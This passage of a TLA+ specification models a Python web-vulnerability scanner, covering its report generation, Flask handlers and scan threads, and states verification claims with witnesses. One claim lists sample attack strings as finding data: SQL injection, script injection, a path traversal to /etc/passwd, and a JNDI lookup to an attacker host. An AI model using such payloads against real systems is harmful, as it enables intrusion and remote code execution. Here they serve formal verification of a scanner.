\* self.scan_results with get and builds new values, and writes to none
AfterReport(h, o) == h

\* a caller calls _generate_summary() on a ReportGenerator of dictionary o
call_generate_summary(o) ==
  /\ report = NoReport
  /\ ret' = [op |-> "_generate_summary", id |-> <<>>, kind |-> "ok", ref |-> o,
             data |-> _generate_summary(heap[o])]
  /\ heap' = AfterReport(heap, o)
  /\ UNCHANGED <<now, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* a caller calls _format_timestamp(timestamp)
call_format_timestamp(timestamp) ==
  /\ report = NoReport
  /\ ret' = [op |-> "_format_timestamp", id |-> <<>>, kind |-> "ok", ref |-> 0,
             arg |-> timestamp, data |-> _format_timestamp(timestamp)]
  /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* generate_json_report(filename) on a ReportGenerator of dictionary o, up to the
\* metadata of lines 54-62
generate_json_report(o, filename) ==
  /\ report = NoReport
  /\ report' = [pc |-> "L63", scan |-> o,
                filepath |-> Filepath(filename, ".json", now),
                metadata |-> Metadata(heap[o], now)]
  /\ ret' = NoCall
  /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, scan_results, active_scans>>

\* line 63: the vulnerabilities section
generate_json_report_L63 ==
  /\ report.pc = "L63"
  /\ report' = [pc |-> "L64", scan |-> report.scan, filepath |-> report.filepath,
                metadata |-> report.metadata,
                vulnerabilities |-> ConvertedVulnerabilities(heap[report.scan])]
  /\ ret' = NoCall
  /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, scan_results, active_scans>>

\* lines 64-70: the summary section, json.dump to the file, return filepath
generate_json_report_L64 ==
  /\ report.pc = "L64"
  /\ report' = NoReport
  /\ ret' = [op |-> "generate_json_report", id |-> <<>>, kind |-> "ok", ref |-> report.scan,
             file |-> [path |-> report.filepath,
                       data |-> [metadata |-> report.metadata,
                                 vulnerabilities |-> report.vulnerabilities,
                                 summary |-> _generate_summary(heap[report.scan])]]]
  /\ heap' = AfterReport(heap, report.scan)
  /\ UNCHANGED <<now, scans, vulnerabilities, threads, scan_results, active_scans>>

\* lines 137-149: the block of the n-th finding, the evidence and the reference
\* rows only when the value is not empty
VulnBlock(n, vuln) ==
  [title |-> <<n, Get(vuln, "name", "Sans Nom")>>,
   description |-> Get(vuln, "description", "N/A"),
   severity |-> capitalize(Get(vuln, "severity", "inconnue")),
   url |-> Get(vuln, "url", "N/A"),
   solution |-> Get(vuln, "solution", "Aucune"),
   more |-> (IF Get(vuln, "evidence", "") # "" THEN <<"evidence">> ELSE <<>>)
            \o (IF Get(vuln, "reference", <<>>) # <<>> THEN <<"reference">> ELSE <<>>)]

\* lines 76-154: the elements of the document built from the dictionary at time t
PdfElements(scan, t) ==
  LET summary == _generate_summary(scan)
      vulns == Get(scan, "vulnerabilities", <<>>)
  IN [meta_data |-> [target |-> Get(scan, "target", "N/A"),
                     id |-> Get(scan, "id", "N/A"),
                     start |-> _format_timestamp(PyValue(Get(scan, "start_time", None))),
                     end |-> _format_timestamp(PyValue(Get(scan, "end_time", None))),
                     status |-> capitalize(Get(scan, "status", "inconnu")),
                     found |-> Len(vulns)],
      summary |-> <<<<capitalize("high"), summary["high"]>>, <<capitalize("medium"), summary["medium"]>>,
                    <<capitalize("low"), summary["low"]>>, <<capitalize("info"), summary["info"]>>>>,
      blocks |-> [n \in DOMAIN vulns |-> VulnBlock(n, vulns[n])],
      generated |-> <<"time", t>>]

\* generate_pdf_report(filename) on a ReportGenerator of dictionary o: None when
\* the import of reportlab failed, else the document is built, written to the
\* file and the path returned
generate_pdf_report_result(o, filename, REPORTLAB_AVAILABLE) ==
  IF ~REPORTLAB_AVAILABLE
  THEN [op |-> "generate_pdf_report", id |-> <<>>, kind |-> "None", ref |-> o,
        REPORTLAB_AVAILABLE |-> REPORTLAB_AVAILABLE, file |-> NoFile]
  ELSE [op |-> "generate_pdf_report", id |-> <<>>, kind |-> "ok", ref |-> o,
        REPORTLAB_AVAILABLE |-> REPORTLAB_AVAILABLE,
        file |-> [path |-> Filepath(filename, ".pdf", now), data |-> PdfElements(heap[o], now)]]

generate_pdf_report(o, filename, REPORTLAB_AVAILABLE) ==
  /\ report = NoReport
  /\ ret' = generate_pdf_report_result(o, filename, REPORTLAB_AVAILABLE)
  /\ heap' = AfterReport(heap, o)
  /\ UNCHANGED <<now, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* app.py generate_report(scan_id, format): 404 for an id scan_results does not
\* hold, 400 for a format other than pdf and json; for pdf, 500 "PDF generation
\* failed" when generate_pdf_report returns None; else the file is sent. (500
\* with str(e) is the answer of the except branch.)
generate_report_result(scan_id, format, REPORTLAB_AVAILABLE) ==
  LET o == scan_results[scan_id]
      pdf == generate_pdf_report_result(o, <<"scan_report_", scan_id, ".pdf">>, REPORTLAB_AVAILABLE)
      json == [path |-> Filepath(<<"scan_report_", scan_id, ".json">>, ".json", now),
               data |-> [metadata |-> Metadata(heap[o], now),
                         vulnerabilities |-> ConvertedVulnerabilities(heap[o]),
                         summary |-> _generate_summary(heap[o])]]
  IN IF scan_id \notin DOMAIN scan_results
     THEN [op |-> "generate_report", id |-> scan_id, kind |-> "error", ref |-> 0, format |-> format,
           REPORTLAB_AVAILABLE |-> REPORTLAB_AVAILABLE,
           status |-> 404, error |-> "Scan results not found", file |-> NoFile]
     ELSE IF format \notin {"pdf", "json"}
     THEN [op |-> "generate_report", id |-> scan_id, kind |-> "error", ref |-> o, format |-> format,
           REPORTLAB_AVAILABLE |-> REPORTLAB_AVAILABLE,
           status |-> 400, error |-> "Invalid report format", file |-> NoFile]
     ELSE IF format = "pdf" /\ pdf.kind = "None"
     THEN [op |-> "generate_report", id |-> scan_id, kind |-> "error", ref |-> o, format |-> format,
           REPORTLAB_AVAILABLE |-> REPORTLAB_AVAILABLE,
           status |-> 500, error |-> "PDF generation failed. Is reportlab installed?",
           file |-> NoFile]
     ELSE [op |-> "generate_report", id |-> scan_id, kind |-> "ok", ref |-> o, format |-> format,
           REPORTLAB_AVAILABLE |-> REPORTLAB_AVAILABLE,
           status |-> 200, error |-> "", file |-> IF format = "pdf" THEN pdf.file ELSE json]

generate_report(scan_id, format, REPORTLAB_AVAILABLE) ==
  /\ report = NoReport
  /\ ret' = generate_report_result(scan_id, format, REPORTLAB_AVAILABLE)
  /\ heap' = IF scan_id \in DOMAIN scan_results /\ format \in {"pdf", "json"}
             THEN AfterReport(heap, scan_results[scan_id])
             ELSE heap
  /\ UNCHANGED <<now, scans, vulnerabilities, threads, scan_results, active_scans, report>>

\* the severities of the findings handed to a ReportGenerator: the four of the
\* scanner, two in another case, one that is none of the four
SeverityInputs == {"high", "medium", "low", "info", "HIGH", "Low", "critical"}

\* a finding of the scanner with its severity replaced
FindingInputs ==
  {[Vulnerability(d, target, SEVERITY_HIGH, 0) EXCEPT !.severity = severity] :
     d \in FirstChoices, target \in Targets, severity \in SeverityInputs}

\* the completed scan dictionaries with at most n findings
ScanInputs(n) ==
  {[NewScan(ScanId(1700000000, RandLo), target, user_agent, 1700000000) EXCEPT
      !.status = SCAN_STATUS_COMPLETED, !.progress = LastStep,
      !.end_time = 1700000030, !.vulnerabilities = vulns] :
     target \in Targets, user_agent \in UserAgents,
     vulns \in UNION {[1 .. k -> FindingInputs] : k \in 0 .. n}}

\* a scan dictionary is handed over: scan_results holds it, as line 127 of app.py
\* stores it under the id of the request
ReportInit ==
  /\ now = 1700000030
  /\ \E scan \in ScanInputs(MaxFindings) : heap = <<scan>>
  /\ scans = [id \in {} |-> 0]
  /\ vulnerabilities = <<>>
  /\ threads = <<>>
  /\ scan_results = [id \in {UuidId} |-> 1]
  /\ active_scans = [id \in {} |-> 0]
  /\ report = NoReport
  /\ ret = NoCall

\* the report methods and the report handler, called on that dictionary
ReportNext ==
  \/ \E o \in Refs : call_generate_summary(o)
  \/ \E n \in DOMAIN TimestampInputs : call_format_timestamp(TimestampInputs[n])
  \/ \E o \in Refs, filename \in Filenames : generate_json_report(o, filename)
  \/ generate_json_report_L63
  \/ generate_json_report_L64
  \/ \E o \in Refs, filename \in Filenames, REPORTLAB_AVAILABLE \in BOOLEAN :
       generate_pdf_report(o, filename, REPORTLAB_AVAILABLE)
  \/ \E scan_id \in {UuidId, ScanId(1700000000, RandLo)}, format \in {"pdf", "json", "xml"},
        REPORTLAB_AVAILABLE \in BOOLEAN :
       generate_report(scan_id, format, REPORTLAB_AVAILABLE)

ReportSpec == ReportInit /\ [][ReportNext]_vars

\* a scan running while generate_json_report exports its dictionary, read by read
ExportNext ==
  \/ \E target_url \in Targets, user_agent \in UserAgents, r \in Rands(MaxRand) :
       Len(heap) < MaxScans /\ start_scan(target_url, user_agent, r)
  \/ \E k \in 1 .. MaxScans : ThreadStep(k)
  \/ \E o \in Refs : generate_json_report(o, NoFilename)
  \/ generate_json_report_L63
  \/ generate_json_report_L64

ExportSpec == Init /\ [][ExportNext]_vars

(* ------------------------------ web handlers --------------------------- *)
\* str(uuid.uuid4()): the n-th id the demo handler generates, none of them equal
\* to another or to an id of the scanner
Uuid(n) == <<"uuid4", n>>

\* the entry demo records in active_scans at time t, as line 71 leaves it
ActiveScan(target_url, t) ==
  [status |-> "scanning", progress |-> 0, target |-> target_url, start_time |-> t,
   results |-> 0]

\* demo, POST with the form field target_url: without a target it flashes an
\* error and redirects; else it records a uuid4 id in active_scans, calls
\* scanner.start_scan(target_url), whose returned id it drops (r is the draw of
\* that call), and answers with the uuid4 id
demo(target_url, r) ==
  LET scan_id == Uuid(Len(heap) + 1)
      scanner_id == ScanId(now, r)
      ref == Len(heap) + 1
      registry == Register(scans, scanner_id, ref)
  IN IF target_url = ""
     THEN /\ ret' = [op |-> "demo", id |-> <<>>, kind |-> "redirect", ref |-> 0]
          /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, scan_results,
                         active_scans, report>>
     ELSE /\ active_scans' = Register(active_scans, scan_id, ActiveScan(target_url, now))
          /\ heap' = Append(heap, NewScan(scanner_id, target_url, "None", now))
          /\ scans' = registry
          /\ threads' = Append(threads, [scan_id |-> scanner_id,
                                         scan |-> registry[scanner_id],
                                         target |-> target_url,
                                         i |-> 1,
                                         pc |-> "L146",
                                         severity |-> NoSeverity,
                                         vuln_dict |-> NoVuln])
          /\ ret' = [op |-> "demo", id |-> scan_id, kind |-> "ok", ref |-> ref]
          /\ UNCHANGED <<now, vulnerabilities, scan_results, report>>

\* scan_status(scan_id), GET: for an id of active_scans it asks the scanner for
\* that id, and the ValueError of get_scan_status leaves the handler (the answer
\* is the 500 of Flask); with the scanner's dictionary in hand it copies status
\* and progress into the entry and, when the status is completed, stores the
\* dictionary in scan_results and drops the entry; for an id of scan_results it
\* answers completed; else 404
scan_status(scan_id) ==
  LET scan_status_ == get_scan_status_result(scan_id)
      o == scan_status_.ref
  IN /\ IF scan_id \in DOMAIN active_scans
        THEN IF scan_status_.kind = "NotFound"
             THEN /\ ret' = [op |-> "scan_status", id |-> scan_id, kind |-> "NotFound", ref |-> 0,
                             status |-> 500]
                  /\ UNCHANGED <<scan_results, active_scans>>
             ELSE /\ ret' = [op |-> "scan_status", id |-> scan_id, kind |-> "ok", ref |-> o,
                             status |-> 200]
                  /\ IF heap[o].status = "completed"
                     THEN /\ scan_results' = Register(scan_results, scan_id, o)
                          /\ active_scans' = [id \in DOMAIN active_scans \ {scan_id} |-> active_scans[id]]
                     ELSE /\ active_scans' = [active_scans EXCEPT
                                                ![scan_id].status = heap[o].status,
                                                ![scan_id].progress = heap[o].progress]
                          /\ UNCHANGED scan_results
        ELSE /\ ret' = IF scan_id \in DOMAIN scan_results
                       THEN [op |-> "scan_status", id |-> scan_id, kind |-> "stored",
                             ref |-> scan_results[scan_id], status |-> 200]
                       ELSE [op |-> "scan_status", id |-> scan_id, kind |-> "unknown", ref |-> 0,
                             status |-> 404]
             /\ UNCHANGED <<scan_results, active_scans>>
     /\ UNCHANGED <<now, heap, scans, vulnerabilities, threads, report>>

\* the ids a client asks the handlers about: those demo can have answered with,
\* and those of the scanner
AppIds(n) == {Uuid(k) : k \in 1 .. n} \cup ScanIds(n)

\* the web application: scans are started through demo and polled through
\* scan_status while their threads run
AppNext ==
  \/ \E target_url \in Targets \cup {""}, r \in Rands(MaxRand) :
       Len(heap) < MaxScans /\ demo(target_url, r)
  \/ \E k \in 1 .. MaxScans : ThreadStep(k)
  \/ \E scan_id \in AppIds(MaxScans) : scan_status(scan_id)

AppSpec == Init /\ [][AppNext]_vars

(* ------------------------------- claims ------------------------------- *)
\* what a step leaves alone when it changes no scan state
ScanStateUnchanged == UNCHANGED <<heap, scans, vulnerabilities, threads>>

\* C1: in every reachable state, the states between the writes of the background
\* thread included, a scan whose status is completed has progress 100 and an
\* end_time that is set and at least its start_time. (The code writes the status
\* at line 155 before the end_time at line 156.)
C1_CompletedHasProgressAndEndTime ==
  \A o \in Refs :
    heap[o].status = SCAN_STATUS_COMPLETED =>
      /\ heap[o].progress = 100
      /\ heap[o].end_time # None
      /\ heap[o].end_time >= heap[o].start_time

\* C2: in every reachable state a completed scan has a non-empty finding list, so
\* the list get_scan_results returns is never empty.
C2_CompletedHasFindings ==
  /\ \A o \in Refs :
       heap[o].status = SCAN_STATUS_COMPLETED => heap[o].vulnerabilities # <<>>
  /\ (ret.op = "get_scan_results" /\ ret.kind = "ok") =>
       heap[ret.ref].vulnerabilities # <<>>

\* C2 witness: results were returned in the window where the status is already
\* completed and the end_time is not yet written
C2_Witness ==
  /\ ret.op = "get_scan_results"
  /\ ret.kind = "ok"
  /\ heap[ret.ref].status = SCAN_STATUS_COMPLETED
  /\ heap[ret.ref].end_time = None

\* C3: for a registered id, a get_scan_results call fails with NotReady whenever
\* the status is not completed, returns the scan's finding list exactly when it is
\* completed, and changes no scan state either way.
C3_ResultsOnlyWhenCompleted ==
  [][(ret'.op = "get_scan_results" /\ ret'.id \in DOMAIN scans) =>
       /\ ScanStateUnchanged
       /\ heap[scans[ret'.id]].status # SCAN_STATUS_COMPLETED =>
            (ret'.kind = "NotReady" /\ ret'.ref = 0)
       /\ heap[scans[ret'.id]].status = SCAN_STATUS_COMPLETED =>
            (ret'.kind = "ok" /\ ret'.ref = scans[ret'.id])]_vars

\* C3 witness: NotReady at progress 100, the status not yet written
C3_Witness ==
  /\ ret.op = "get_scan_results"
  /\ ret.kind = "NotReady"
  /\ ret.id \in DOMAIN scans
  /\ heap[scans[ret.id]].progress = 100
  /\ heap[scans[ret.id]].status = SCAN_STATUS_RUNNING

\* C4: for an id that is no key of the registry, get_scan_status and
\* get_scan_results both fail with NotFound, the registry gains no entry and no
\* scan is changed.
C4_UnknownIdNotFound ==
  [][(ret'.op \in {"get_scan_status", "get_scan_results"} /\ ret'.id \notin DOMAIN scans) =>
       /\ ret'.kind = "NotFound"
       /\ ret'.ref = 0
       /\ DOMAIN scans' = DOMAIN scans
       /\ ScanStateUnchanged]_vars

\* C4 witness: NotFound for an unknown id while another scan is registered and
\* running
C4_Witness ==
  /\ ret.op = "get_scan_status"
  /\ ret.kind = "NotFound"
  /\ ret.id \notin DOMAIN scans
  /\ \E o \in Refs : heap[o].status = SCAN_STATUS_RUNNING /\ heap[o].progress > 0

\* C5: start_scan registers the new scan as running, with progress 0, no finding
\* and no end_time, before its thread takes a first step; and from the return of
\* start_scan on, get_scan_status on the returned id never fails with NotFound.
C5_RegisteredBeforeFirstTick ==
  [][/\ \A k \in DOMAIN threads' :
          (threads'[k].pc = "L146" /\ threads'[k].i = 1) =>
            /\ heap'[threads'[k].scan].status = SCAN_STATUS_RUNNING
            /\ heap'[threads'[k].scan].progress = 0
            /\ heap'[threads'[k].scan].vulnerabilities = <<>>
            /\ heap'[threads'[k].scan].end_time = None
     /\ ret'.op = "start_scan" =>
          (ret'.id \in DOMAIN scans' /\ scans'[ret'.id] = ret'.ref)
     /\ DOMAIN scans \subseteq DOMAIN scans'
     /\ (ret'.op = "get_scan_status" /\ ret'.id \in DOMAIN scans) =>
          (ret'.kind = "ok" /\ ret'.ref = scans[ret'.id])]_vars

\* C5 witness: a status poll answered before the thread's first write
C5_Witness ==
  /\ ret.op = "get_scan_status"
  /\ ret.kind = "ok"
  /\ \E k \in DOMAIN threads :
       threads[k].scan = ret.ref /\ threads[k].pc = "L146" /\ threads[k].i = 1

\* C6: once a scan's status is completed, no later step changes any of its fields.
\* (The end_time is written after the status: see C1.)
C6_CompletedIsImmutable ==
  [][\A o \in Refs :
       heap[o].status = SCAN_STATUS_COMPLETED => heap'[o] = heap[o]]_vars

\* C7: a scan's progress is always in 0..100 and never decreases; each progress
\* write of the background thread raises it by exactly 1, and no other step
\* changes it.
C7_ProgressStepsByOne ==
  [][\A o \in Refs :
       /\ heap[o].progress \in 0 .. 100
       /\ heap'[o].progress \in 0 .. 100
       /\ heap'[o].progress >= heap[o].progress
       /\ \A k \in DOMAIN threads :
            (threads[k].scan = o /\ threads'[k] # threads[k]) =>
              heap'[o].progress = heap[o].progress + (IF threads[k].pc = "L146" THEN 1 ELSE 0)
       /\ (\A k \in DOMAIN threads : threads[k].scan = o => threads'[k] = threads[k]) =>
            heap'[o].progress = heap[o].progress]_vars

\* C7 witness: the progress reached 100 while the status is still running
C7_Witness ==
  \E o \in Refs :
    heap[o].progress = 100 /\ heap[o].status = SCAN_STATUS_RUNNING

\* C8: every start_scan call returns an id that was no key of the registry, so
\* start_scan never rebinds the entry of an existing scan. (The id is the clock
\* second and a four-digit random number.)
C8_FreshScanId ==
  [][Len(heap') = Len(heap) + 1 =>
       /\ ret'.op = "start_scan"
       /\ ret'.id \notin DOMAIN scans
       /\ \A id \in DOMAIN scans : scans'[id] = scans[id]]_vars

\* C9: under fair scheduling of the threads every scan start_scan registered
\* eventually has status completed, whatever the other scans do.
C9_EveryScanCompletes ==
  \A k \in 1 .. ConcScans :
    (k \in DOMAIN threads) ~>
      (k \in DOMAIN threads /\ heap[threads[k].scan].status = SCAN_STATUS_COMPLETED)

\* C9 witness: every scan of a full run is completed and its thread has ended
C9_Witness ==
  /\ Len(threads) = ConcScans
  /\ \A k \in DOMAIN threads :
       threads[k].pc = "done" /\ heap[threads[k].scan].status = SCAN_STATUS_COMPLETED

\* C10: a step of the thread of scan A changes only A's progress, status,
\* end_time and finding list, and no field of any other scan.
C10_ThreadsDoNotInterfere ==
  [][\A k \in DOMAIN threads :
       threads'[k] # threads[k] =>
         /\ \A o \in Refs : o # threads[k].scan => heap'[o] = heap[o]
         /\ heap'[threads[k].scan] =
              [heap[threads[k].scan] EXCEPT
                 !.progress = heap'[threads[k].scan].progress,
                 !.status = heap'[threads[k].scan].status,
                 !.end_time = heap'[threads[k].scan].end_time,
                 !.vulnerabilities = heap'[threads[k].scan].vulnerabilities]]_vars

\* C10 witness: two scans registered under the same id, the thread of the first
\* still writing after the second took over the registry entry
C10_Witness ==
  /\ Len(heap) = 2
  /\ heap[1].id = heap[2].id
  /\ heap[1].progress > heap[2].progress
  /\ heap[2].progress > 0
  /\ heap[1].status = SCAN_STATUS_RUNNING

\* C16: while a scan's progress is below 100, its list holds exactly one finding
\* for each of the steps 15, 30, 45, 60 and 75 already passed: the thread is at
\* the append only at one of these steps, the finding is in the list when the
\* append has run, and no other step adds one.
C16_FindingsAtMultiplesOf15 ==
  \A k \in DOMAIN threads :
    LET th == threads[k]
        p == heap[th.scan].progress
        n == Len(heap[th.scan].vulnerabilities)
        passed == Cardinality({m \in {15, 30, 45, 60, 75} : m < p})
    IN p < 100 =>
         /\ th.pc \in {"L146", "L248", "L251"}
         /\ th.pc = "L146" => n = passed + (IF p \in {15, 30, 45, 60, 75} THEN 1 ELSE 0)
         /\ th.pc = "L248" => (p \in {15, 30, 45, 60, 75} /\ n = passed)
         /\ th.pc = "L251" => (p \in {15, 30, 45, 60, 75} /\ n = passed + 1)

\* C16 witness: step 90, a multiple of 15 that is not below 80, has passed and
\* the list still holds the five findings of steps 15 to 75
C16_Witness ==
  \E k \in DOMAIN threads :
    /\ threads[k].i = 91
    /\ heap[threads[k].scan].progress = 90
    /\ Len(heap[threads[k].scan].vulnerabilities) = 5

\* C17: in the iteration that writes progress 100, a step changes the finding
\* list only by appending one finding of severity low to an empty list, a
\* non-empty list is left as it is, and the iteration does not end on an empty
\* list. (Every run reaches step 100 with the findings of steps 15 to 75 in the
\* list; the forced call of line 160 is also followed from line 159 on the scan
\* with its list emptied.)
C17_ForcedLowFindingOnlyWhenEmpty ==
  [][\A k \in DOMAIN threads :
       LET th == threads[k]
           o == th.scan
           before == heap[o].vulnerabilities
           after == heap'[o].vulnerabilities
           emptied == [heap EXCEPT ![o].vulnerabilities = <<>>]
           forced == AfterEndTime(th, emptied)
       IN (th.i = 100 /\ threads'[k] # th) =>
            /\ before # <<>> => after = before
            /\ after # before =>
                 (before = <<>> /\ Len(after) = 1 /\ after[1].severity = SEVERITY_LOW)
            /\ threads'[k].pc = "done" => after # <<>>
            /\ th.pc = "L156" =>
                 /\ forced.pc = "L248"
                 /\ \A first \in FirstChoices, sev \in DOMAIN SeverityChoices :
                      LET d == [first EXCEPT !.sev = sev]
                          vuln_dict == Vulnerability(d, th.target, forced.severity, now)
                      IN /\ vuln_dict.severity = SEVERITY_LOW
                         /\ AppendToScan(forced, emptied, vuln_dict)[o].vulnerabilities = <<vuln_dict>>
                 /\ AfterReturn([forced EXCEPT !.pc = "L251"]).pc = "done"]_vars

\* C17 witness: the iteration of step 100 has ended on a scan that held findings
\* and holds the same five
C17_Witness ==
  \E k \in DOMAIN threads :
    /\ threads[k].i = 100
    /\ threads[k].pc = "done"
    /\ heap[threads[k].scan].progress = 100
    /\ Len(heap[threads[k].scan].vulnerabilities) = 5

\* C18: every finding in a scan's list whose severity is low or info has an empty
\* param, attack and evidence; the param, attack and evidence of every finding
\* are entries of their fixed candidate lists, the empty string being one of them.
C18_DetailOnlyForHighAndMedium ==
  \A o \in Refs : \A n \in DOMAIN heap[o].vulnerabilities :
    LET f == heap[o].vulnerabilities[n]
    IN /\ f.severity \in {"low", "info"} =>
            (f.param = "" /\ f.attack = "" /\ f.evidence = "")
       /\ f.param \in {"id", "username", "q", "search", "email", ""}
       /\ f.attack \in {"' OR '1'='1", "<script>alert(1)</script>", "../../etc/passwd",
                         "${jndi:ldap://attacker.com/exploit}", ""}
       /\ f.evidence \in {"SQL syntax error", "Reflected input detected",
                           "Sensitive data in response", ""}

\* C18 witness: a scan holds an info finding, and a medium finding with an
\* evidence
C18_Witness ==
  \E o \in Refs : \E m, n \in DOMAIN heap[o].vulnerabilities :
    /\ heap[o].vulnerabilities[m].severity = "info"
    /\ heap[o].vulnerabilities[m].param = ""
    /\ heap[o].vulnerabilities[n].severity = "medium"
    /\ heap[o].vulnerabilities[n].evidence = "Sensitive data in response"

\* C19 as stated: the risk and the confidence of every finding of every scan are
\* one of the letters H, M, L. (The risk word is drawn from High, Medium, Low and
\* Info.)
C19_RiskAndConfidenceInHML ==
  \A o \in Refs : \A n \in DOMAIN heap[o].vulnerabilities :
    /\ heap[o].vulnerabilities[n].risk \in {"H", "M", "L"}
    /\ heap[o].vulnerabilities[n].confidence \in {"H", "M", "L"}

\* C19 amended: the risk of every finding of every scan is one of the letters
\* H, M, L, I and its confidence is one of the letters H, M, L.
C19_RiskInHMLI_ConfidenceInHML ==
  \A o \in Refs : \A n \in DOMAIN heap[o].vulnerabilities :
    /\ heap[o].vulnerabilities[n].risk \in {"H", "M", "L", "I"}
    /\ heap[o].vulnerabilities[n].confidence \in {"H", "M", "L"}

\* C19 witness: a scan holds a finding of risk I
C19_Witness ==
  \E o \in Refs : \E n \in DOMAIN heap[o].vulnerabilities :
    /\ heap[o].vulnerabilities[n].risk = "I"
    /\ heap[o].vulnerabilities[n].confidence = "H"

\* C20: in every step the finding list of every scan before the step is a prefix
\* of its list after the step: no finding is removed, moved or modified, and the
\* lists a caller reads from the live dictionary at successive moments extend
\* one another.
C20_FindingListAppendOnly ==
  [][\A o \in Refs :
       /\ Len(heap[o].vulnerabilities) <= Len(heap'[o].vulnerabilities)
       /\ \A n \in DOMAIN heap[o].vulnerabilities :
            heap'[o].vulnerabilities[n] = heap[o].vulnerabilities[n]]_vars

\* C20 witness: a list of two different findings, the one appended first at its
\* head
C20_Witness ==
  \E o \in Refs :
    /\ Len(heap[o].vulnerabilities) = 2
    /\ heap[o].vulnerabilities[1].severity = "high"
    /\ heap[o].vulnerabilities[2].severity = "low"
    /\ heap[o].progress > 30

\* C11: a step of a report operation (the summary, the structured export at each
\* of its reads, the document export, the report handler) leaves every scan
\* dictionary as it was: its fields, its finding list and every field of every
\* finding.
C11_ReportsLeaveScanUnchanged ==
  [][(\/ ret'.op \in {"_generate_summary", "generate_json_report", "generate_pdf_report",
                       "generate_report"}
      \/ report' # report) =>
       /\ Len(heap') = Len(heap)
       /\ \A o \in Refs : heap'[o] = heap[o]]_vars

\* C11 witness: a structured export has returned for a scan that holds three
\* findings, one of them of severity HIGH, which is still written HIGH
C11_Witness ==
  /\ ret.op = "generate_json_report"
  /\ Len(heap[ret.ref].vulnerabilities) = 3
  /\ heap[ret.ref].vulnerabilities[2].severity = "HIGH"
  /\ ret.file.data.summary["high"] >= 1

\* C12: the summary of a finding list has exactly the keys high, medium, low and
\* info; the count of each key is the number of findings whose severity is that
\* key in any letter case; a finding of another severity is not counted and no
\* error is raised; so the counts add up to the number of findings when every
\* severity is one of the four, and [high, low, low] gives 1, 0, 2, 0.
C12_SummaryCountsBySeverity ==
  ret.op = "_generate_summary" =>
    LET vulns == heap[ret.ref].vulnerabilities
        spelled == [high |-> {"high", "High", "HIGH"}, medium |-> {"medium", "Medium", "MEDIUM"},
                    low |-> {"low", "Low", "LOW"}, info |-> {"info", "Info", "INFO"}]
        known == UNION {spelled[key] : key \in DOMAIN spelled}
    IN /\ ret.kind = "ok"
       /\ DOMAIN ret.data = {"high", "medium", "low", "info"}
       /\ \A key \in {"high", "medium", "low", "info"} :
            ret.data[key] = Cardinality({n \in DOMAIN vulns : vulns[n].severity \in spelled[key]})
       /\ (\A n \in DOMAIN vulns : vulns[n].severity \in known) =>
            ret.data["high"] + ret.data["medium"] + ret.data["low"] + ret.data["info"] = Len(vulns)
       /\ [n \in DOMAIN vulns |-> vulns[n].severity] = <<"high", "low", "low">> =>
            ret.data = [high |-> 1, medium |-> 0, low |-> 2, info |-> 0]

\* C12 witness: the summary of [HIGH, critical, Low] counts one high and one low
C12_Witness ==
  /\ ret.op = "_generate_summary"
  /\ [n \in DOMAIN heap[ret.ref].vulnerabilities |-> heap[ret.ref].vulnerabilities[n].severity]
       = <<"HIGH", "critical", "Low">>
  /\ ret.data = [high |-> 1, medium |-> 0, low |-> 1, info |-> 0]

\* C13: in the document a structured export writes, metadata.vulnerability_count
\* is the length of the vulnerabilities sequence and the summary counts are
\* those of that sequence, also when the thread of the scan appends findings
\* while the export runs. (Lines 61, 63 and 64 read the live list one after the
\* other.)
C13_ExportIsConsistent ==
  ret.op = "generate_json_report" =>
    LET data == ret.file.data
    IN /\ data.metadata.vulnerability_count = Len(data.vulnerabilities)
       /\ \A key \in {"high", "medium", "low", "info"} :
            data.summary[key] =
              Cardinality({n \in DOMAIN data.vulnerabilities : data.vulnerabilities[n].severity = key})

C15_TimestampOutcomes ==
  ret.op = "_format_timestamp" =>
    LET parsable == {"2023-11-14T22:13:20", "2023-11-14T22:13:20Z", "2023-11-14"}
    IN /\ ret.kind = "ok"
       /\ ret.arg.type = "int" => ret.data.form = "%d/%m/%Y %H:%M:%S"
       /\ (ret.arg.type = "str" /\ ret.arg.value \in parsable) =>
            ret.data.form = "%d/%m/%Y %H:%M:%S"
       /\ ret.arg.type = "NoneType" => ret.data = [form |-> "N/A"]
       /\ (ret.arg.type = "str" /\ ret.arg.value \notin parsable) =>
            ret.data = [form |-> "str", of |-> ret.arg]

\* C22: the status of every scan dictionary is running or completed before and
\* after every step, a scan is created running, and a step changes a status only
\* from running to completed: never to pending or failed, never back to running.
C22_RunningThenCompleted ==
  [][/\ \A o \in Refs :
          /\ heap[o].status \in {"running", "completed"}
          /\ heap'[o].status # heap[o].status =>
               (heap[o].status = "running" /\ heap'[o].status = "completed")
     /\ \A o \in 1 .. Len(heap') :
          /\ heap'[o].status \in {"running", "completed"}
          /\ o \notin Refs => heap'[o].status = "running"
     /\ \A id \in DOMAIN scans' : scans'[id] \in 1 .. Len(heap')]_vars

\* C22 witness: a scan is completed, its end_time written and its thread ended
C22_Witness ==
  \E k \in DOMAIN threads :
    /\ threads[k].pc = "done"
    /\ heap[threads[k].scan].status = "completed"
    /\ heap[threads[k].scan].end_time # None
    /\ threads[k].scan \in {scans[id] : id \in DOMAIN scans}

\* C23: a scan whose progress is 100 holds exactly five findings, and in the
\* iteration of step 100 its thread is never at the forced call of line 160.
C23_FiveFindingsAtProgress100 ==
  /\ \A o \in Refs :
       heap[o].progress = 100 => Len(heap[o].vulnerabilities) = 5
  /\ \A k \in DOMAIN threads :
       threads[k].i = 100 =>
         (threads[k].pc \notin {"L248", "L251"} /\ threads[k].severity # SEVERITY_LOW)

\* C23 witness: line 159 has made its test on five findings and the thread has
\* ended
C23_Witness ==
  \E k \in DOMAIN threads :
    /\ threads[k].i = 100
    /\ threads[k].pc = "done"
    /\ heap[threads[k].scan].progress = 100
    /\ heap[threads[k].scan].end_time # None
    /\ Len(heap[threads[k].scan].vulnerabilities) = 5
    /\ \A n \in 1 .. 5 : heap[threads[k].scan].vulnerabilities[n].severity = "high"

\* C21: every id demo has recorded in active_scans and answered with is a key of
\* the scanner's registry, and a scan_status poll of an id of active_scans gets
\* the scanner's dictionary, never its not-found error. (demo records a uuid4
\* id and drops the id start_scan returns.)
C21_ActiveIdsAreRegistered ==
  /\ \A id \in DOMAIN active_scans : id \in DOMAIN scans
